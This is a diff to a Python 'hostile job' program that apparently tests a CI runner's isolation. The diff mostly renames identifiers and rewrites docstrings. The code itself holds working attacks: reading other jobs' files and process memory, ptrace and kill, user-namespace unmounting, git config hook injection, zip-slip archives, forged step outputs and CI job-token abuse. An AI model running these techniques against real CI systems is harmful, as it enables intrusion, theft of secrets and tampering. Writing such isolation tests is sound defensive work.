@@ -1,8 +1,8 @@
-"""The program of a hostile job: it tries every attack and reports what worked. Run inside a job with `targets.json`.
+"""The program of the hostile job: it makes every attack on the targets in `targets.json` and reports the results.
 
-One line a try: `ATTACK` and base64 of JSON with the attack's name, the way, and what came of it: what was read, or that
-it was done; or the error. In base64 so that no masking hides what was seen. What it attacks is only what the targets
-name. `gentle` is for a job that nothing holds back: it shows that it could, and harms nothing that the test needs.
+It prints one line for each attempt: `ATTACK` and base64 of JSON with the attack's name, the variant, and the result:
+success, the data that were read, or the error. Base64 prevents that masking hides the data. It attacks only what the
+targets name. With `gentle`, in a mode without isolation, it does not harm processes that the test needs.
 """
 
 import base64
@@ -26,18 +26,19 @@ from typing import Any
 
 PTRACE_ATTACH, PTRACE_DETACH = 16, 17
 MOST_BYTES = 4096
-MADE = "made-by-another-job"
-"""What is left in a folder that can be written to."""
+PLANTED = "made-by-another-job"
+"""Name of the file that it creates in a folder that it can write to."""
 SECONDS = 10
 FORGE_SECONDS = 60
 FORGED = ("inputs", "outputs")
-Way = tuple[str, Callable[[], bytes | bool]]
-"""What it is called, and what to do: bytes that were read, or whether it was done; nothing, False and OSError: not."""
-T = dict[str, Any]
+Variant = tuple[str, Callable[[], bytes | bool]]
+"""A variant of an attack: description and action. The action returns the data that it read, or True. Empty data, False
+and OSError mean that it failed."""
+Targets = dict[str, Any]
 
 
-def read(path: str) -> Way:
-    """Of a file, or the names in a folder."""
+def read(path: str) -> Variant:
+    """Read a file, or list a folder."""
 
     def act() -> bytes:
         if os.path.isdir(path):
@@ -51,12 +52,12 @@ def read(path: str) -> Way:
     return f"read {path}", act
 
 
-def change(path: str) -> Way:
-    """Open a file for writing, and write nothing: whoever gets that far can. Make a file in a folder."""
+def change(path: str) -> Variant:
+    """Open a file for writing without writing to it, or create a file in a folder."""
 
     def act() -> bool:
         if os.path.isdir(path):
-            os.close(os.open(f"{path}/{MADE}", os.O_WRONLY | os.O_CREAT))
+            os.close(os.open(f"{path}/{PLANTED}", os.O_WRONLY | os.O_CREAT))
         else:
             os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK))
         return True
@@ -64,11 +65,11 @@ def change(path: str) -> Way:
     return f"change {path}", act
 
 
-def link(path: str) -> Way:
-    """Take a second name of a file, and read by that."""
+def link(path: str) -> Variant:
+    """Create a hard link to a file, and read the file by it."""
 
     def act() -> bytes:
-        own = f"taken-{os.getpid()}"
+        own = f"link-{os.getpid()}"
         os.link(path, own)
         try:
             return Path(own).read_bytes()[:MOST_BYTES]
@@ -78,8 +79,8 @@ def link(path: str) -> Way:
     return f"link {path}", act
 
 
-def unmounted(path: str) -> Way:
-    """Look under what is mounted over a file, as root of a user namespace of its own."""
+def unmount(path: str) -> Variant:
+    """Remove mounts that hide a file, as root of a new user namespace, and read the file."""
     script = 'for m in $(cut -d" " -f5 /proc/self/mountinfo | sort -r); do umount -l "$m" 2>/dev/null; done; cat "$1"'
 
     def act() -> bytes:
@@ -89,13 +90,13 @@ def unmounted(path: str) -> Way:
     return f"unmount what hides {path}", act
 
 
-def files(*paths: str) -> Iterator[Way]:
+def files(*paths: str) -> Iterator[Variant]:
     for path in paths:
         yield read(path)
         yield change(path)
 
 
-def send(pid: int, number: int) -> Way:
+def send(pid: int, number: int) -> Variant:
     def act() -> bool:
         os.kill(pid, number)
         return True
@@ -103,7 +104,7 @@ def send(pid: int, number: int) -> Way:
     return f"signal {number} to {pid}", act
 
 
-def trace(pid: int) -> Way:
+def trace(pid: int) -> Variant:
     def act() -> bool:
         libc = ctypes.CDLL(None, use_errno=True)
         if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
@@ -116,7 +117,7 @@ def trace(pid: int) -> Way:
     return f"trace {pid}", act
 
 
-def memory(pid: int) -> Way:
+def memory(pid: int) -> Variant:
     def act() -> bool:
         with open(f"/proc/{pid}/mem", "rb"):
             return True
@@ -124,8 +125,8 @@ def memory(pid: int) -> Way:
     return f"memory of {pid}", act
 
 
-def look_at(pid: int) -> Iterator[Way]:
-    """What may be done to a process without harm to it."""
+def inspect_process(pid: int) -> Iterator[Variant]:
+    """Attacks on a process that do not harm it."""
     yield read(f"/proc/{pid}/environ")
     yield memory(pid)
     for name in ("root", "cwd", "fd"):
@@ -133,9 +134,9 @@ def look_at(pid: int) -> Iterator[Way]:
     yield send(pid, 0)
 
 
-def process(pid: int, targets: T, *, is_needed: bool) -> Iterator[Way]:
-    """Everything that may be done to a process; one that the test needs is only looked at where nothing protects it."""
-    yield from look_at(pid)
+def attack_process(pid: int, targets: Targets, *, is_needed: bool) -> Iterator[Variant]:
+    """All attacks on a process. With `gentle`, a process that the test needs is not harmed."""
+    yield from inspect_process(pid)
     if is_needed and targets["gentle"]:
         return
     yield trace(pid)
@@ -143,25 +144,25 @@ def process(pid: int, targets: T, *, is_needed: bool) -> Iterator[Way]:
     yield send(pid, signal.SIGKILL)
 
 
-def connect(address: str, said: bytes = b"") -> Way:
+def connect(address: str, message: bytes = b"") -> Variant:
     def act() -> bytes | bool:
         with socket.socket(socket.AF_UNIX) as caller:
             caller.settimeout(SECONDS)
             caller.connect(address)
-            if not said:
+            if not message:
                 return True
-            caller.sendall(said)
+            caller.sendall(message)
             return caller.recv(MOST_BYTES)
 
     return f"connect to {address!r}", act
 
 
-def segment(key: int) -> Way:
+def segment(key: int) -> Variant:
     def act() -> bytes:
         libc = ctypes.CDLL(None, use_errno=True)
         libc.shmat.restype = ctypes.c_void_p
-        found = libc.shmget(key, 0, 0)
-        address = libc.shmat(found, None, 0o10000) if found >= 0 else None
+        segment_id = libc.shmget(key, 0, 0)
+        address = libc.shmat(segment_id, None, 0o10000) if segment_id >= 0 else None
         if address is None or address == ctypes.c_void_p(-1).value:
             raise OSError(ctypes.get_errno(), "System V shared memory")
         return ctypes.string_at(address, 64).rstrip(b"\0")
@@ -169,12 +170,12 @@ def segment(key: int) -> Way:
     return f"System V segment {key}", act
 
 
-def call(targets: T, method: str, path: str, body: bytes | None = None, **headers: str) -> Way:
-    """An HTTP call of the cell; done where it is answered with success."""
+def call(targets: Targets, method: str, path: str, body: bytes | None = None, **headers: str) -> Variant:
+    """Call the cell's HTTP API; a status of 400 and above is a failure."""
 
     def act() -> bytes:
-        named = {name.replace("_", "-"): value for name, value in headers.items()}
-        request = urllib.request.Request(targets["cell"]["url"] + path, body, named, method=method)
+        fields = {name.replace("_", "-"): value for name, value in headers.items()}
+        request = urllib.request.Request(targets["cell"]["url"] + path, body, fields, method=method)
         try:
             with urllib.request.urlopen(request, timeout=SECONDS) as answer:
                 return b"%d " % answer.status + bytes(answer.read(MOST_BYTES))
@@ -184,44 +185,44 @@ def call(targets: T, method: str, path: str, body: bytes | None = None, **header
     return f"{method} {path} with {' '.join(headers)}", act
 
 
-def neighbour_files(targets: T) -> Iterator[Way]:
+def neighbour_files(targets: Targets) -> Iterator[Variant]:
     other = targets["neighbour"]
     folders = os.path.dirname(other["work"]), os.path.dirname(other["file_variable"]), other["temporary"]
     yield from files(other["work"], other["file_variable"], *folders)
     yield link(other["work"])
-    yield unmounted(other["work"])
+    yield unmount(other["work"])
 
 
-def neighbour_processes(targets: T) -> Iterator[Way]:
+def neighbour_processes(targets: Targets) -> Iterator[Variant]:
     for pid in targets["neighbour"]["pids"]:
-        yield from process(pid, targets, is_needed=True)
-    yield from process(targets["neighbour"]["helper"], targets, is_needed=False)
+        yield from attack_process(pid, targets, is_needed=True)
+    yield from attack_process(targets["neighbour"]["helper"], targets, is_needed=False)
 
 
-def neighbour_command_lines(targets: T) -> Iterator[Way]:
+def neighbour_command_lines(targets: Targets) -> Iterator[Variant]:
     yield read(f"/proc/{targets['neighbour']['pids'][0]}/cmdline")
 
 
-def neighbour_private_memory(targets: T) -> Iterator[Way]:
+def neighbour_private_memory(targets: Targets) -> Iterator[Variant]:
     other = targets["neighbour"]
     yield from files(other["private_tmp"], other["private_shm"])
-    yield unmounted(other["private_tmp"])
+    yield unmount(other["private_tmp"])
     yield segment(other["key"])
 
 
-def neighbour_open_memory(targets: T) -> Iterator[Way]:
+def neighbour_open_memory(targets: Targets) -> Iterator[Variant]:
     other = targets["neighbour"]
     yield read(other["open_tmp"])
     yield read(other["open_shm"])
-    yield unmounted(other["open_tmp"])
+    yield unmount(other["open_tmp"])
     yield segment(other["key"] + 1)
 
 
-def neighbour_cache(targets: T) -> Iterator[Way]:
+def neighbour_cache(targets: Targets) -> Iterator[Variant]:
     yield from files(*targets["neighbour"]["caches"])
 
 
-def neighbour_network(targets: T) -> Iterator[Way]:
+def neighbour_network(targets: Targets) -> Iterator[Variant]:
     def act() -> bool:
         with socket.create_connection(("127.0.0.1", targets["neighbour"]["port"]), SECONDS):
             return True
@@ -230,15 +231,15 @@ def neighbour_network(targets: T) -> Iterator[Way]:
     yield connect(f"\0{targets['neighbour']['abstract']}")
 
 
-def earlier_files(targets: T) -> Iterator[Way]:
+def earlier_files(targets: Targets) -> Iterator[Variant]:
     yield from files(targets["earlier"]["work"], os.path.dirname(targets["earlier"]["work"]))
 
 
-def earlier_cache(targets: T) -> Iterator[Way]:
+def earlier_cache(targets: Targets) -> Iterator[Variant]:
     yield from files(*targets["earlier"]["caches"])
 
 
-def earlier_memory(targets: T) -> Iterator[Way]:
+def earlier_memory(targets: Targets) -> Iterator[Variant]:
     other = targets["earlier"]
     for kind in ("private_tmp", "open_tmp", "private_shm", "open_shm"):
         yield read(other[kind])
@@ -246,25 +247,25 @@ def earlier_memory(targets: T) -> Iterator[Way]:
     yield segment(other["key"] + 1)
 
 
-def earlier_processes(targets: T) -> Iterator[Way]:
+def earlier_processes(targets: Targets) -> Iterator[Variant]:
     for pid in targets["earlier"]["pids"]:
-        yield from process(pid, targets, is_needed=False)
+        yield from attack_process(pid, targets, is_needed=False)
 
 
-def agent_files(targets: T) -> Iterator[Way]:
+def agent_files(targets: Targets) -> Iterator[Variant]:
     yield from files(*targets["agent"]["files"])
-    yield unmounted(targets["agent"]["files"][0])
+    yield unmount(targets["agent"]["files"][0])
 
 
-def agent_own_job(targets: T) -> Iterator[Way]:
-    """The job's folder is around the one with the files that its steps write to."""
+def agent_own_job(targets: Targets) -> Iterator[Variant]:
+    """The agent's folder of this job is the parent of the folder with the files of its steps."""
     own = Path(os.environ["REMUDA_OUTPUTS"]).parent.parent
     for name in targets["agent"]["names"]:
         yield from files(str(own / name))
 
 
-def agent_checkout(targets: T) -> Iterator[Way]:
-    """Leave programs in the repository for the git of the next checkout, which may have other rights."""
+def agent_checkout(targets: Targets) -> Iterator[Variant]:
+    """Leave programs in the repository that git of the next checkout may run with other rights."""
     command = f"touch {targets['marks']}/by-git; true"
     settings = {"core.fsmonitor": command, "core.sshCommand": command, "filter.evil.smudge": command}
     settings |= {"filter.evil.clean": command, "core.hooksPath": f"{os.getcwd()}/.git/hooks", "diff.external": command}
@@ -283,22 +284,22 @@ def agent_checkout(targets: T) -> Iterator[Way]:
     return iter(())
 
 
-def forge(targets: T) -> None:
-    """Write into inputs and outputs of every step that can be seen, beside the job's own steps; the job's end is this
-    one's, too."""
+def forge(targets: Targets) -> None:
+    """Append forged values to inputs and outputs of all visible steps while the job's own steps run. The process ends
+    with the job."""
     mark = ["touch", f"{targets['marks']}/by-forgery"]
     line = json.dumps({"name": "environment", "value": {"exec": [*mark, "--"]}}) + "\n"
     own = os.environ.get("REMUDA_OUTPUTS")
-    folders = [Path(own).parent] if own else [Path(one) for one in mounted() if one.endswith("/exchange")]
-    wanted = [f"{folder}/step-{number}.{kind}" for folder in folders for number in range(12) for kind in FORGED]
+    folders = [Path(own).parent] if own else [Path(path) for path in mount_points() if path.endswith("/exchange")]
+    paths = [f"{folder}/step-{number}.{kind}" for folder in folders for number in range(12) for kind in FORGED]
     forged: dict[str, int] = {}
     until = time.monotonic() + FORGE_SECONDS
     while time.monotonic() < until:
-        for path in wanted:
+        for path in paths:
             with contextlib.suppress(OSError):
                 file = os.open(path, os.O_WRONLY | os.O_APPEND)
                 try:
-                    # Again when something came behind it: the last line counts.
+                    # Append again after every other write, because the last line counts.
                     if path != own and os.fstat(file).st_size != forged.get(path, 0):
                         os.write(file, line.encode())
                         forged[path] = os.fstat(file).st_size
@@ -306,15 +307,15 @@ def forge(targets: T) -> None:
                     os.close(file)
 
 
-def mounted() -> list[str]:
+def mount_points() -> list[str]:
     return [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
 
 
-def pack(targets: T) -> None:
-    """Upload artifacts by hand, for a later job to unpack: a link that leads out, a file behind it, and names that lead
-    out by themselves."""
-    made = io.BytesIO()
-    with zipfile.ZipFile(made, "w") as archive:
+def pack(targets: Targets) -> None:
+    """Upload an archive for a later job to unpack: a link to an outside folder, a file below it, and names of outside
+    files."""
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w") as archive:
         link = zipfile.ZipInfo("unpacked")
         link.external_attr = (stat.S_IFLNK | 0o777) << 16
         archive.writestr(link, targets["marks"])
@@ -322,45 +323,45 @@ def pack(targets: T) -> None:
         archive.writestr(f"{'../' * 30}{targets['marks'].lstrip('/')}/by-archive", "x")
         archive.writestr(f"{targets['marks']}/by-archive", "x")
     head = '--b\r\nContent-Disposition: form-data; name="file"; filename="artifacts.zip"\r\n\r\n'
-    body = head.encode() + made.getvalue() + b"\r\n--b--\r\n"
+    body = head.encode() + data.getvalue() + b"\r\n--b--\r\n"
     kind = "multipart/form-data; boundary=b"
     token = os.environ["CI_JOB_TOKEN"]
     path = f"/api/v4/jobs/{os.environ['CI_JOB_ID']}/artifacts"
     call(targets, "POST", path, body, JOB_TOKEN=token, Content_Type=kind)[1]()
 
 
-def swap(targets: T) -> None:
-    """Put a link to somebody else's folder in the place of the working directory."""
+def swap(targets: Targets) -> None:
+    """Replace the working directory with a link to a folder outside."""
     work = Path.cwd()
     os.chdir("/")
     work.rename(f"{work}.old")
     work.symlink_to(targets["linked"])
 
 
-def agent_socket(targets: T) -> Iterator[Way]:
+def agent_socket(targets: Targets) -> Iterator[Variant]:
     yield connect(targets["agent"]["socket"])
 
 
-def agent_processes(targets: T) -> Iterator[Way]:
-    """Those of the agent. Whoever else is above this process is not harmed: it may be somebody's terminal."""
+def agent_processes(targets: Targets) -> Iterator[Variant]:
+    """Attack the processes of the agent. Other ancestors, such as a terminal, are only inspected."""
     for pid in targets["agent"]["pids"]:
-        yield from process(pid, targets, is_needed=True)
+        yield from attack_process(pid, targets, is_needed=True)
     for pid in _ancestors():
         with contextlib.suppress(OSError):
             if pid not in targets["agent"]["pids"] and os.stat(f"/proc/{pid}").st_uid != os.getuid():
-                yield from look_at(pid)
+                yield from inspect_process(pid)
 
 
-def agent_descriptors(targets: T) -> Iterator[Way]:
-    """Found before this program opened any."""
+def agent_descriptors(targets: Targets) -> Iterator[Variant]:
+    """Report inherited open files, which were listed before this program opened any."""
     own = (str(Path.cwd()), "/dev/null", "/dev/pts")
-    for number, place in sorted(INHERITED.items()):
-        if number > 2 and not place.startswith(own):
-            yield f"descriptor {number}", lambda place=place: place.encode()  # type: ignore[misc]
+    for number, path in sorted(INHERITED.items()):
+        if number > 2 and not path.startswith(own):
+            yield f"descriptor {number}", lambda path=path: path.encode()  # type: ignore[misc]
 
 
-def agent_archives(targets: T) -> Iterator[Way]:
-    """Leave links for the steps that upload artifacts and caches; what came of it is seen by whoever downloads them."""
+def agent_archives(targets: Targets) -> Iterator[Variant]:
+    """Leave links for the steps that upload artifacts and caches. The test downloads the files and checks them."""
     Path("out").mkdir(exist_ok=True)
     Path("out/file").symlink_to(targets["canary"])
     Path("report.xml").symlink_to(targets["canary"])
@@ -368,38 +369,38 @@ def agent_archives(targets: T) -> Iterator[Way]:
     return iter(())
 
 
-def manager_files(targets: T) -> Iterator[Way]:
+def manager_files(targets: Targets) -> Iterator[Variant]:
     yield from files(*targets["manager"]["files"])
-    yield unmounted(targets["manager"]["files"][0])
+    yield unmount(targets["manager"]["files"][0])
 
 
-def manager_socket(targets: T) -> Iterator[Way]:
+def manager_socket(targets: Targets) -> Iterator[Variant]:
     command = b"status" if targets["gentle"] else b"drain"
     yield connect(targets["manager"]["socket"], b'{"command": "%s"}\n' % command)
 
 
-def manager_process(targets: T) -> Iterator[Way]:
-    yield from process(targets["manager"]["pid"], targets, is_needed=True)
+def manager_process(targets: Targets) -> Iterator[Variant]:
+    yield from attack_process(targets["manager"]["pid"], targets, is_needed=True)
 
 
-def cell_files(targets: T) -> Iterator[Way]:
+def cell_files(targets: Targets) -> Iterator[Variant]:
     yield from files(*targets["cell"]["files"])
-    yield unmounted(targets["cell"]["files"][0])
+    yield unmount(targets["cell"]["files"][0])
 
 
-def cell_process(targets: T) -> Iterator[Way]:
-    yield from process(targets["cell"]["pid"], targets, is_needed=True)
+def cell_process(targets: Targets) -> Iterator[Variant]:
+    yield from attack_process(targets["cell"]["pid"], targets, is_needed=True)
 
 
-def control_calls(targets: T) -> Iterator[Way]:
-    """What the job's token is for: shows that the cell can be reached."""
+def control_calls(targets: Targets) -> Iterator[Variant]:
+    """A permitted call with the job's token, which shows that the cell can be reached."""
     yield call(targets, "GET", "/api/v4/job", JOB_TOKEN=os.environ["CI_JOB_TOKEN"])
 
 
-def cell_calls(targets: T) -> Iterator[Way]:
+def cell_calls(targets: Targets) -> Iterator[Variant]:
     token, cell = os.environ["CI_JOB_TOKEN"], targets["cell"]
     own, other, job = cell["own_project"], cell["other_project"], cell["other_job"]
-    looked_at = [
+    paths = [
         "/user",
         "/users",
         "/runners/all",
@@ -419,7 +420,7 @@ def cell_calls(targets: T) -> Iterator[Way]:
         f"/jobs/{job}/artifacts",
     ]
     headers = ("JOB_TOKEN", "PRIVATE_TOKEN", "Authorization")
-    for path in looked_at:
+    for path in paths:
         for name in headers:
             word = f"Bearer {token}" if name == "Authorization" else token
             yield call(targets, "GET", f"/api/v4{path}", None, **{name: word})
@@ -434,18 +435,18 @@ def cell_calls(targets: T) -> Iterator[Way]:
     yield call(targets, "POST", f"/api/v4/projects/{own}/variables", variable, JOB_TOKEN=token, **kind)
     runner = b'{"runner_type": "instance_type"}'
     yield call(targets, "POST", "/api/v4/user/runners", runner, JOB_TOKEN=token, **kind)
-    wanted = json.dumps({"token": token, "ref": "main"}).encode()
-    yield call(targets, "POST", f"/api/v4/projects/{other}/trigger/pipeline", wanted, **kind)
+    trigger = json.dumps({"token": token, "ref": "main"}).encode()
+    yield call(targets, "POST", f"/api/v4/projects/{other}/trigger/pipeline", trigger, **kind)
 
 
-def cell_repositories(targets: T) -> Iterator[Way]:
+def cell_repositories(targets: Targets) -> Iterator[Variant]:
     word = base64.b64encode(f"gitlab-ci-token:{os.environ['CI_JOB_TOKEN']}".encode()).decode()
     for path, service in (("other_path", "upload-pack"), ("other_path", "receive-pack"), ("own_path", "receive-pack")):
         address = f"/{targets['cell'][path]}.git/info/refs?service=git-{service}"
         yield call(targets, "GET", address, Authorization=f"Basic {word}")
 
 
-def cell_old_token(targets: T) -> Iterator[Way]:
+def cell_old_token(targets: Targets) -> Iterator[Variant]:
     old, job = targets["earlier"]["token"], targets["earlier"]["job"]
     yield call(targets, "GET", "/api/v4/job", JOB_TOKEN=old)
     yield call(targets, "GET", f"/api/v4/jobs/{job}/artifacts", JOB_TOKEN=old)
@@ -455,20 +456,20 @@ def cell_old_token(targets: T) -> Iterator[Way]:
     yield call(targets, "GET", address, Authorization=f"Basic {word}")
 
 
-def machine_engine(targets: T) -> Iterator[Way]:
+def machine_engine(targets: Targets) -> Iterator[Variant]:
     yield connect(targets["engine"])
 
 
-def machine_root(targets: T) -> Iterator[Way]:
+def machine_root(targets: Targets) -> Iterator[Variant]:
     def act() -> bool:
-        said = subprocess.run([targets["as_root"], "-u"], capture_output=True, timeout=SECONDS, check=False).stdout
-        return said.strip() == b"0"
+        output = subprocess.run([targets["as_root"], "-u"], capture_output=True, timeout=SECONDS, check=False).stdout
+        return output.strip() == b"0"
 
     yield "run a set-user-ID program", act
 
 
-def policy_inserted(targets: T) -> Iterator[Way]:
-    """Prepare for the step that comes after the job; what it printed shows whether anything came of it."""
+def policy_inserted(targets: Targets) -> Iterator[Variant]:
+    """Prepare programs and variables for the inserted step after the job. The log of that step shows the result."""
     folder = Path.cwd() / "evil"
     folder.mkdir(exist_ok=True)
     for name in ("git", "env", "id", "sh"):
@@ -484,8 +485,8 @@ def policy_inserted(targets: T) -> Iterator[Way]:
     return iter(())
 
 
-def policy_results(targets: T) -> Iterator[Way]:
-    """Tell lies where steps tell outputs."""
+def policy_results(targets: Targets) -> Iterator[Variant]:
+    """Write false outputs of the step."""
     with open(os.environ["REMUDA_OUTPUTS"], "a") as file:
         for name, value in (("policy", {"enforced": ["lie"]}), ("status", "success"), ("origin", "inserted")):
             file.write(json.dumps({"name": name, "value": value}) + "\n")
@@ -526,16 +527,16 @@ ATTACKS = (
     policy_results,
 )
 OTHERS = {"forge": forge, "pack": pack, "swap": swap}
-"""What jobs and processes of their own do, by the word before the targets."""
+"""Actions of separate jobs and processes, by the argument before the targets."""
 INHERITED: dict[int, str] = {}
 
 
-def _inherited() -> dict[int, str]:
-    found = {}
+def _list_descriptors() -> dict[int, str]:
+    descriptors = {}
     for name in os.listdir("/proc/self/fd"):
         with contextlib.suppress(OSError):
-            found[int(name)] = os.readlink(f"/proc/self/fd/{name}")
-    return found
+            descriptors[int(name)] = os.readlink(f"/proc/self/fd/{name}")
+    return descriptors
 
 
 def _ancestors() -> Iterator[int]:
@@ -550,21 +551,22 @@ def _ancestors() -> Iterator[int]:
 
 
 def main() -> None:
-    INHERITED.update(_inherited())
-    what, targets = sys.argv[-2], json.loads(Path(sys.argv[-1]).read_text())
-    if what in OTHERS:
-        OTHERS[what](targets)
+    INHERITED.update(_list_descriptors())
+    action, targets = sys.argv[-2], json.loads(Path(sys.argv[-1]).read_text())
+    if action in OTHERS:
+        OTHERS[action](targets)
         return
     for attack in ATTACKS:
-        for way, act in attack(targets):
-            told: dict[str, Any] = {"attack": attack.__name__.replace("_", ".", 1), "way": way}
+        for variant, act in attack(targets):
+            report: dict[str, Any] = {"attack": attack.__name__.replace("_", ".", 1), "variant": variant}
             try:
-                got = act()
+                result = act()
             except (OSError, subprocess.SubprocessError) as error:
-                told |= {"worked": False, "error": str(error)}
+                report |= {"worked": False, "error": str(error)}
             else:
-                told |= {"worked": bool(got), "read": got.decode(errors="replace") if isinstance(got, bytes) else ""}
-            sys.stdout.write(f"ATTACK {base64.b64encode(json.dumps(told).encode()).decode()}\n")
+                data = result.decode(errors="replace") if isinstance(result, bytes) else ""
+                report |= {"worked": bool(result), "read": data}
+            sys.stdout.write(f"ATTACK {base64.b64encode(json.dumps(report).encode()).decode()}\n")
             sys.stdout.flush()
     sys.stdout.write("ATTACKS ENDED\n")
 
